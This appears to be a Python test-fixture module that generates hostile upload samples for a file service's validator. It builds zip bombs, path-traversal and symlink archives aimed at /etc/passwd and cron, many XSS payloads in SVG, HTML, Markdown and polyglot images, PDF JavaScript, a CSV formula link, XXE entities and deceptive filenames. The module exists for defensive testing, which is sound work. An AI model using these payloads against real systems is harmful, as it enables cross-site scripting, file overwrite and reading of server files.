"""Hostile files made by code: archives that lie, and files in which something would run where it is shown.

`active_files(beacon)` call `beacon` with the origin they run on; no sample does anything else.
"""

from __future__ import annotations

import io
import itertools
import struct
import zipfile
from collections.abc import Iterator

from tests.repo_service.files.samples import docx, image, movie, office, open_document, pdf, zipped

Sample = tuple[str, bytes]

_PACKAGES = {
    "zip": {}, "docx": {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"},
    "xlsx": {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"},
    "pptx": {"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"},
    "h5p": {"h5p.json": "{}", "content/content.json": "{}"}, "imscc": {"imsmanifest.xml": "<manifest/>"},
}  # fmt: skip
_SLIPS = (
    "../thoat.txt", "../../../../etc/cron.d/a", "..\\..\\a.txt", "/etc/passwd", "C:\\a.txt", "\\\\may\\chung\\a.txt",
    "a/../../b.txt", "a\x00.txt",
)  # fmt: skip


def lying_archives() -> Iterator[Sample]:
    """Bombs, ways out of the folder, links, twins, wrong sums and sizes, in every kind of package."""
    for ending, members in _PACKAGES.items():
        yield f"bom.{ending}", zipped({**members, "0.xml": bytes(60 << 20)})
        yield f"trong.{ending}", zipped({**members, "b.zip": zipped({"0": bytes(60 << 20)})})
        yield f"nhieu.{ending}", zipped({**members, **{f"{n}.txt": "" for n in range(10_100)}})
        yield f"sai-tong.{ending}", _flipped(zipped({**members, "a.txt": "phân số " * 50}))
        yield f"lien-ket.{ending}", _with_link(members)
        yield (
            f"trung.{ending}",
            _patched(zipped({**members, "aaaa.xml": "x", "bbbb.xml": "y"}), b"bbbb", b"aaaa"),
        )
        yield f"lon.{ending}", _claiming(zipped({**members, "a.txt": "x" * 999}), 0xFFFFFFF0)
        yield f"may.{ending}", zipped({**members, "cai-dat.exe": b"MZ" + bytes(200)})
    for number, (ending, slip) in enumerate(itertools.product(("zip", "docx"), _SLIPS)):
        yield f"thoat-{number}.{ending}", _named(_PACKAGES[ending], slip)


def active_files(beacon: str) -> Iterator[Sample]:
    """SVG, HTML, XML, PDF and pictures with a script in them; `beacon` is an address that takes `?o=ORIGIN`."""
    run = f"new Image().src='{beacon}?o='+self.origin"
    script = f"<script>{run}</script>"
    svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    xhtml = 'xmlns="http://www.w3.org/1999/xhtml"'
    insides = (
        script, f'<circle r="9" onload="{run}"/>', f'<image href="x" onerror="{run}"/>',
        f"<foreignObject><body {xhtml}><img src='x' onerror=\"{run}\"/></body></foreignObject>",
        f'<animate attributeName="r" dur="1s" onbegin="{run}"/>',
        f'<a xlink:href="javascript:{run}"><text>a</text></a>',
        f'<set attributeName="x" onbegin="{run}"/>', f'<use href="data:image/svg+xml,{script}"/>',
    )  # fmt: skip
    for number, inside in enumerate(insides):
        yield f"ve-{number}.svg", f"<svg {svg}>{inside}</svg>".encode()
        yield (
            f"ve-co-dau-{number}.svg",
            f'\ufeff<?xml version="1.0"?><!-- a --><svg {svg}>{inside}</svg>'.encode(),
        )
    yield "ve-goc.svg", f'<svg {svg} onload="{run}"/>'.encode()
    yield "ve-16.svg", f"<svg {svg}>{script}</svg>".encode("utf-16")
    yield from _pages(script, run)
    yield from _mixtures(script, run)


def _pages(script: str, run: str) -> Iterator[Sample]:
    xhtml = 'xmlns="http://www.w3.org/1999/xhtml"'
    pages = (
        script, f"<img src=x onerror=\"{run}\">", f'<body onload="{run}">', f"<svg onload=\"{run}\">",
        f"<iframe srcdoc=\"{script.replace(chr(34), '')}\"></iframe>", f"<details open ontoggle=\"{run}\">a</details>",
        f'<meta http-equiv="refresh" content="0;url=javascript:{run}">', f'<object data="javascript:{run}"></object>',
        f'<embed src="javascript:{run}">', f'<base href="//x"><script>{run}</script>',
        f'<input autofocus onfocus="{run}">',
        f'<form action="javascript:{run}"><button autofocus>x</button></form>',
    )  # fmt: skip
    for number, page in enumerate(pages):
        yield f"trang-{number}.html", f"<!doctype html><html><body>{page}</body></html>".encode()
        yield f"trang-{number}.htm", page.encode()
        yield f"de-{number}.xml", f'<?xml version="1.0"?><html {xhtml}><body>{page}</body></html>'.encode()
        yield f"chu-{number}.txt", f"<!doctype html>{page}".encode()
        yield f"ghi-{number}.md", f"# Bài\n\n{page}\n[a](javascript:{run})".encode()


def _mixtures(script: str, run: str) -> Iterator[Sample]:
    page = f"<html><body>{script}</body></html>".encode()
    for kind in ("PNG", "JPEG", "GIF", "WEBP", "BMP"):
        ending = kind.lower()
        yield f"duoi.{ending}", image(kind) + page
        yield f"dau.{ending}", image(kind)[:12] + page + image(kind)[12:]
        yield f"gia.{ending}", page
        yield f"doi.{ending}.html", image(kind) + page
    yield "duoi.pdf", pdf() + page
    yield "gia.pdf", page
    yield (
        "chay.pdf",
        pdf().replace(
            b"/Type /Catalog", f"/Type /Catalog /OpenAction << /S /JavaScript /JS ({run}) >>".encode()
        ),
    )
    yield "duoi.mp4", movie(b"isom") + page
    yield "phu.vtt", f"WEBVTT\n\n00:01.000 --> 00:02.000\n{script}".encode()
    yield "bang.csv", f'=HYPERLINK("javascript:{run}")\n{script}\n'.encode()
    yield from _readers_traps(page)


def _readers_traps(page: bytes) -> Iterator[Sample]:
    """Documents that make their reader fetch or open something, a flood of pixels, names that confuse."""
    entity = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield "xxe.docx", docx(**{"word/footer.xml": entity})
    outside = (
        '<Relationships><Relationship TargetMode="External" Target="http://127.0.0.1:9/x"/></Relationships>'
    )
    yield "xa.docx", docx(**{"word/_rels/document.xml.rels": outside})
    odt = {
        "mimetype": "application/vnd.oasis.opendocument.text",
        "content.xml": '<!DOCTYPE a SYSTEM "http://127.0.0.1:9/a"><a/>',
    }
    yield "xxe.odt", zipped(odt, zipfile.ZIP_STORED)
    yield "xxe.xlsx", office("xl") + page
    yield "trang.odp", open_document("presentation") + page
    yield "a.html\u202etxt.html", page
    yield "CON.html", page
    yield "a\r\nContent-Type: text/html.html", page
    header = struct.pack(">I4sIIBBBBB", 13, b"IHDR", 60000, 60000, 8, 6, 0, 0, 0)
    yield "lũ.png", b"\x89PNG\r\n\x1a\n" + header + bytes(9)


def _flipped(made: bytes) -> bytes:
    place = made.index(b"PK\x01\x02") - 3
    return made[:place] + bytes([made[place] ^ 0xFF]) + made[place + 1 :]


def _patched(made: bytes, before: bytes, after: bytes) -> bytes:
    return made.replace(before, after)


def _claiming(made: bytes, size: int) -> bytes:
    place = made.rindex(b"PK\x01\x02") + 24
    return made[:place] + struct.pack("<I", size) + made[place + 4 :]


def _with_link(members: dict[str, str]) -> bytes:
    link = zipfile.ZipInfo("lien-ket.txt")
    link.external_attr = 0o120777 << 16
    made = io.BytesIO(zipped(dict(members)))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def _named(members: dict[str, str], name: str) -> bytes:
    made = io.BytesIO(zipped(dict(members)))
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(zipfile.ZipInfo(name), "x")
    return made.getvalue()
